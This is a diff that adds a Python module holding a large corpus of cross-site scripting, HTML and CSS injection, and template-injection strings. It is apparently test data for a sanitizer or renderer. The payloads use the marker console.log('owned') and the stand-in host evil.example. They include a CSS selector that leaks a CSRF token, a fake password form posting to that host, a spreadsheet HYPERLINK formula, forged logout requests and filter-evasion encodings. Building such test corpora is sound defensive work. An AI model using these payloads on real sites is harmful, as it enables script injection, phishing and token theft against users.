@@ -1,0 +1,130 @@
+"""Texts that do harm where a page lets them be more than text: each says `owned` when it runs, or fetches."""
+
+from __future__ import annotations
+
+RUN = "console.log('owned')"
+AWAY = "//evil.example"
+
+SCRIPTS = (
+    f"<script>{RUN}</script>",
+    f"<ScRiPt >{RUN}</sCrIpT >",
+    f"<script/x>{RUN}</script\n>",
+    f"<script src={AWAY}/a.js></script>",
+    f"<script type=module>import '{AWAY}/m.js'</script>",
+    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
+    f"</title><script>{RUN}</script>",
+    f"</textarea><script>{RUN}</script>",
+    f"</style></script></noscript><script>{RUN}</script>",
+    f"--><script>{RUN}</script><!--",
+    f"]]><script>{RUN}</script>",
+    f"</option></select><script>{RUN}</script>",
+    f"</td></tr></table><script>{RUN}</script>",
+    f"</summary></details><script>{RUN}</script>",
+)
+HANDLERS = (
+    f'<img src=x onerror="{RUN}">',
+    f"<img/src=x/onerror={RUN}>",
+    f"<img src=`x` onerror={RUN}//",
+    f"<img src=x\x0conerror={RUN}>",
+    f'<IMG """><img src=x onerror="{RUN}">',
+    f"<body onload={RUN}>",
+    f"<input autofocus onfocus={RUN}>",
+    f"<details open ontoggle={RUN}>x</details>",
+    f"<video><source onerror={RUN}></video>",
+    f"<audio src=x onerror={RUN}>",
+    f"<marquee onstart={RUN}>x</marquee>",
+    f"<div style='animation:turn 1s' onanimationstart={RUN}>x</div>",
+    f"<a id=x tabindex=1 onfocus={RUN} autofocus>x</a>",
+    f"<button popovertarget=p>x</button><div popover id=p onbeforetoggle={RUN}>x</div>",
+    f'" autofocus onfocus="{RUN}" x="',
+    f"' autofocus onfocus='{RUN.replace(chr(39), chr(34))}' x='",
+    f'" onmouseover={RUN} style=position:fixed;inset:0 "',
+    f'"><img src=x onerror={RUN}>',
+    f"'><img src=x onerror={RUN}>",
+    f"`><img src=x onerror={RUN}>",
+    f"x onerror={RUN} ",
+)
+FOREIGN = (
+    f"<svg onload={RUN}>",
+    f"<svg><script>{RUN}</script></svg>",
+    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
+    f"<svg><a xlink:href=javascript:{RUN}><text y=20>x</text></a></svg>",
+    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}></svg>#x'></svg>",
+    f"<svg><image href={AWAY}/s.png></svg>",
+    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
+    f'<svg></p><style><a id="</style><img src=x onerror={RUN}>">',
+    f'<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror={RUN}>">',
+    f"<math><mi//xlink:href=javascript:{RUN}>x",
+    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
+    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
+    f"<template><img src=x onerror={RUN}></template><xmp><img src=x onerror={RUN}></xmp>",
+)
+STYLES = (
+    f"<style>@import '{AWAY}/a.css';</style>",
+    f"<style>body{{background:url({AWAY}/b.png)}}</style>",
+    f"<link rel=stylesheet href={AWAY}/c.css>",
+    f"<link rel=prefetch href={AWAY}/p><link rel=preconnect href={AWAY}>",
+    f"<div style=\"background:url('{AWAY}/d.png')\">x</div>",
+    f"<div style='width:expression({RUN});-moz-binding:url({AWAY}/x)'>x</div>",
+    f"<style>input[name=csrf][value^=a]{{background:url({AWAY}/leak)}}</style>",
+    f"<style>@font-face{{font-family:x;src:url({AWAY}/f.woff)}}*{{font-family:x}}</style>",
+    f'";}}body{{background:url({AWAY}/e.png)}}/*',
+)
+FETCHES = (
+    f"<img src={AWAY}/pixel.gif width=1>",
+    f"<img srcset='{AWAY}/1.png 1x, {AWAY}/2.png 2x'>",
+    f"<picture><source srcset={AWAY}/3.png><img src=x></picture>",
+    f"<video poster={AWAY}/4.png src={AWAY}/5.mp4 autoplay></video>",
+    f"<iframe src={AWAY}></iframe>",
+    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
+    f"<iframe src=javascript:parent.{RUN}></iframe>",
+    f"<object data={AWAY}/o.swf></object><embed src={AWAY}/e.swf>",
+    f"<object data='data:text/html,<script>{RUN}</script>'></object>",
+    f"<table background={AWAY}/t.png><td background={AWAY}/u.png>x",
+    f"<input type=image src={AWAY}/i.png>",
+    f"<base href={AWAY}/>",
+    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
+    f"<meta http-equiv=refresh content='0;url=data:text/html,<script>{RUN}</script>'>",
+    "<img src=/logout><iframe src=/logout></iframe>",
+)
+LINKS = (
+    f'<a href="javascript:{RUN}">x</a>',
+    f'<a href="java\tscript:{RUN}">x</a>',
+    f'<a href="&#106;avascript&colon;{RUN}">x</a>',
+    f"<a href='data:text/html,<script>{RUN}</script>'>x</a>",
+    f"<a href=vbscript:{RUN} ping={AWAY}>x</a>",
+    f"javascript:{RUN}",
+    f"[x](javascript:{RUN}) ![x]({AWAY}/m.png)",
+    f"<form action={AWAY}><input name=password><button autofocus>Log in</button></form>",
+    f"<button form=judge formaction={AWAY}>Approve and send</button>",
+    f"<isindex action=javascript:{RUN} type=submit>",
+)
+ENTITIES = (
+    f"&lt;script&gt;{RUN}&lt;/script&gt;",
+    f"&amp;lt;img src=x onerror={RUN}&amp;gt;",
+    f"&#60;img src=x onerror={RUN}&#62;",
+    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
+    f"%3Cscript%3E{RUN}%3C/script%3E",
+    f"＜script＞{RUN}＜/script＞",
+    f"<img\u200b src=x onerror={RUN}>",
+    f"<s\u00adcript>{RUN}</s\u00adcript>",
+    f"\u202e<script>{RUN}</script>\u202c",
+    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
+    f"<\u0131mg src=x onerror={RUN}><ſcript>{RUN}</ſcript>",
+)
+TEMPLATES = (
+    "{{7*7}}{{ self.__init__.__globals__ }}",
+    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
+    "${7*7} #{7*7} <%= 7*7 %> {7*7} %(7)s %s",
+    f"<div hx-get=/logout hx-trigger=load hx-on:htmx:load=\"{RUN}\">x</div>",
+    f"<div data-hx-on-load='{RUN}' data-hx-post='/logout' data-hx-trigger='load'>x</div>",
+    f"<div hx-get='js:{RUN}' hx-trigger=load hx-vals='js:{{a: {RUN}}}'></div>",
+    "\" hx-get=\"/logout\" hx-trigger=\"load",
+    f"<meta name=htmx-config content='{{\"mode\":\"cors\"}}'><p hx-get=https:{AWAY} hx-trigger=load>",
+    f"<script id=help type=application/json>{{}}</script><form id=here action={AWAY}><input id=judge name=version>",
+    f"=HYPERLINK(\"{AWAY}\",\"x\")",
+    "W" * 900,
+    "<" * 400,
+)  # fmt: skip
+
+CORPUS = (*SCRIPTS, *HANDLERS, *FOREIGN, *STYLES, *FETCHES, *LINKS, *ENTITIES, *TEMPLATES)
